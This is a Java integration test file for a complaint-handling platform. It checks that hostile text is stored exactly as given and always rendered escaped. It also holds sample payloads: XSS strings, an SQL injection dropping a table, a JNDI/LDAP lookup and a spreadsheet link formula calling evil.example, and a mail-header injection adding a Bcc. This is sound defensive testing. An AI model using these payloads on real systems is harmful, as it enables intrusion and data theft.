package de.kundenstimme.platform.boundary;

import de.kundenstimme.testing.Api;
import de.kundenstimme.testing.Deployments;
import de.kundenstimme.testing.Mailbox;
import de.kundenstimme.testing.PageClient;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.mail.internet.MimeMessage;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.net.URL;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.List;

import static de.kundenstimme.complaint.boundary.ComplaintApiFixtures.capture;
import static de.kundenstimme.complaint.boundary.ComplaintApiFixtures.captured;
import static de.kundenstimme.complaint.boundary.ComplaintApiFixtures.sequenceOf;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile text in every string of a case: kept exactly as given (or refused with a clear 400 and
 * nothing saved), and on the pages always shown as text, never as markup or script.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class HostileInputIT {

    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.builtWar();
    }

    @ArquillianResource
    URL base;

    static List<String> hostile() {
        return List.of(
                "<script>alert('xss')</script>",
                "<img src=x onerror=alert(1)><b>fett</b></div></textarea>",
                "' OR 1=1 --; DROP TABLE complaint; /* */ \"zitiert\"",
                "=HYPERLINK(\"http://evil.example\",\"Klick\")",
                "Zeile 1\r\nZeile 2\tTab \u0007\u001b[31m rot",
                "Ünïcödé 😀 \u202Egnalsni\u202C ${jndi:ldap://evil.example/a} #{7*7}");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void aCaseCapturedWithHostileTextKeepsItExactlyAndShowsItAsText(String text) {
        Api handler = Api.as(base, "handler.service");
        JsonObject capture = Json.createObjectBuilder().add("channel", "LETTER").add("categoryCode", "PRODUKT_DEFEKT")
                .add("priority", "NORMAL").add("subject", text).add("verbatim", text).add("desiredOutcome", text)
                .add("customer", Json.createObjectBuilder().add("firstName", text).add("lastName", text)
                        .add("company", text).add("street", text).add("city", text)
                        .add("email", "feindlich." + System.nanoTime() + "@example.de")).build();

        Api.Reply captured = handler.post("complaints", capture.toString());

        assertEquals(201, captured.status(), captured.body());
        String caseNumber = captured.json().getString("caseNumber");
        JsonObject stored = handler.get("complaints/" + caseNumber).json();
        assertEquals(text, stored.getString("subject"));
        assertEquals(text, stored.getString("verbatim"));
        assertEquals(text, stored.getString("desiredOutcome"));
        assertTrue(stored.getJsonObject("customer").getString("name").contains(text), stored.toString());
        assertShownAsText(PageClient.signedIn(base, "handler.service").get("complaint/case.xhtml?caseNumber=" + caseNumber).body(),
                text);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void hostileNotesStepsAndReasonsAreKeptAndShownAsText(String text) {
        Api handler = Api.as(base, "handler.service");
        String caseNumber = newCase(handler);
        PageClient pages = PageClient.signedIn(base, "handler.service");
        String casePage = "complaint/case.xhtml?caseNumber=" + caseNumber;

        assertEquals(200, pages.submit(casePage, CsrfIT.note(text)).statusCode());
        Api.Reply step = handler.post("complaints/" + caseNumber + "/steps", Json.createObjectBuilder()
                .add("description", text).build().toString());
        assertEquals(201, step.status(), step.body());
        Api.Reply escalated = handler.post("complaints/" + caseNumber + "/escalation", Json.createObjectBuilder()
                .add("reason", text).build().toString(), handler.get("complaints/" + caseNumber).header("ETag"));
        assertTrue(escalated.status() < 300, escalated.body());

        String shown = pages.get(casePage).body();
        assertShownAsText(shown, text);
        assertEquals(text, handler.get("complaints/" + caseNumber).json().getJsonArray("steps").getJsonObject(0)
                .getString("description"));
    }

    @Test
    void overlongTextIsRefusedByFieldAndNothingIsSaved() {
        Api handler = Api.as(base, "handler.service");
        String before = newCase(handler);
        String tooLong = "ü".repeat(201);
        JsonObject capture = Json.createObjectBuilder().add("channel", "LETTER").add("categoryCode", "PRODUKT_DEFEKT")
                .add("priority", "NORMAL").add("subject", tooLong).add("verbatim", "x".repeat(20_001))
                .add("customer", Json.createObjectBuilder().add("lastName", "<b>" + "x".repeat(120) + "</b>")).build();

        Api.Reply refused = handler.post("complaints", capture.toString());

        assertEquals(400, refused.status(), refused.body());
        assertTrue(refused.body().contains("subject") && refused.body().contains("verbatim"), refused.body());
        assertTrue(refused.body().contains("customer.lastName") || refused.body().contains("lastName"), refused.body());
        assertEquals(sequenceOf(before) + 1, sequenceOf(newCase(handler)), "the refused case took no number");
    }

    @Test
    void invalidUtf8AndWrongEncodingsAreRefusedOrReadCorrectlyNeverGarbled() {
        Api handler = Api.as(base, "handler.service");
        String before = newCase(handler);
        byte[] invalid = ("{\"channel\":\"LETTER\",\"categoryCode\":\"PRODUKT_DEFEKT\",\"priority\":\"NORMAL\","
                + "\"subject\":\"kaputt \u00ff\u00fe\",\"verbatim\":\"x\",\"customer\":{\"lastName\":\"Kodierung\"}}")
                .getBytes(StandardCharsets.ISO_8859_1);

        Api.Reply asUtf8 = handler.send(handler.request("complaints").header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofByteArray(invalid)));
        Api.Reply declaredLatin1 = handler.send(handler.request("complaints")
                .header("Content-Type", "application/json; charset=ISO-8859-1")
                .POST(HttpRequest.BodyPublishers.ofByteArray(invalid)));

        assertEquals(400, asUtf8.status(), "bytes that are no UTF-8: " + asUtf8.body());
        assertTrue(declaredLatin1.status() == 400 || declaredLatin1.status() == 415 || declaredLatin1.status() == 201,
                declaredLatin1.body());
        if (declaredLatin1.status() == 201) {
            assertEquals("kaputt \u00ff\u00fe", declaredLatin1.json().getString("subject"), "read in the declared charset");
        }
        int saved = declaredLatin1.status() == 201 ? 1 : 0;
        assertEquals(sequenceOf(before) + 1 + saved, sequenceOf(newCase(handler)), "nothing half-saved");
    }

    @Test
    void aLetterBodyWithScriptIsStoredWithoutItAndNeverRuns() {
        Api handler = Api.as(base, "handler.service");
        String caseNumber = newCase(handler);
        Api.Reply draft = handler.post("complaints/" + caseNumber + "/letters", "{\"letterType\":\"INTERIM\"}");
        assertEquals(201, draft.status(), draft.body());
        long id = draft.json().getJsonNumber("id").longValue();

        Api.Reply edited = handler.send(handler.request("letters/" + id).header("Content-Type", "application/json")
                .header("If-Match", draft.header("ETag")).PUT(HttpRequest.BodyPublishers.ofString(Json.createObjectBuilder()
                        .add("subject", "<script>betreffSkript()</script>")
                        .add("body", "<p onclick=\"stehlen()\">Guten Tag</p><script>ausspaehen()</script>"
                                + "<img src=x onerror=\"einbrechen()\"><a href=\"javascript:umleiten()\">hier</a>").build().toString())));

        assertEquals(200, edited.status(), edited.body());
        String page = PageClient.signedIn(base, "handler.service").get("correspondence/letter.xhtml?id=" + id).body();
        for (String active : List.of("stehlen()", "ausspaehen()", "einbrechen()", "umleiten()", "<script>betreffSkript")) {
            assertFalse(page.contains(active), active + " reached the page");
        }
        assertTrue(page.contains("Guten Tag"), "the text itself stays");
        assertTrue(page.contains("&lt;script&gt;betreffSkript()&lt;/script&gt;"), "the subject shown as text");
    }

    @Test
    void aHostileSubjectStaysInsideItsMailHeaderAndTheMailIsPlainText() throws Exception {
        try (Mailbox mailbox = Mailbox.open()) {
            Api handler = Api.as(base, "handler.service");
            String caseNumber = captured(handler, capture("Defekt\r\nBcc: angreifer@evil.example\r\n\r\n<script>alert(1)</script>"))
                    .getString("caseNumber");

            Api.Reply escalated = handler.post("complaints/" + caseNumber + "/escalation", "{\"reason\":\"Kunde droht\"}",
                    handler.get("complaints/" + caseNumber).header("ETag"));

            assertTrue(escalated.status() < 300, escalated.body());
            MimeMessage mail = mailbox.awaitMailTo("manager.service@kundenstimme.example");
            assertTrue(mail.isMimeType("text/plain"), "no HTML that could run");
            assertEquals(1, mail.getHeader("Subject").length);
            assertTrue(Mailbox.subject(mail).contains(caseNumber) && Mailbox.subject(mail).contains("<script>"),
                    Mailbox.subject(mail));
            assertEquals(null, mail.getHeader("Bcc"), "the subject's line break made no header of its own");
            assertTrue(mailbox.mailsTo("angreifer@evil.example").isEmpty());
        }
    }

    /** The text is on the page only HTML-escaped: its markup is not there as markup. */
    private static void assertShownAsText(String page, String text) {
        if (text.contains("<")) {
            String firstTag = text.substring(text.indexOf('<'), text.indexOf('>') + 1);
            assertFalse(page.contains(text), "the markup is on the page as markup: " + text);
            assertTrue(page.contains(firstTag.replace("<", "&lt;").replace(">", "&gt;")), "shown escaped: " + firstTag);
        } else {
            String visible = text.replaceAll("[\\p{Cntrl}\\u202E\\u202C]", "").split("\\s+")[0];
            assertTrue(page.contains(visible.replace("\"", "&quot;")) || page.contains(visible), visible + " is shown");
        }
    }

    private static String newCase(Api handler) {
        return captured(handler, capture("Feindliche Eingaben")).getString("caseNumber");
    }
}
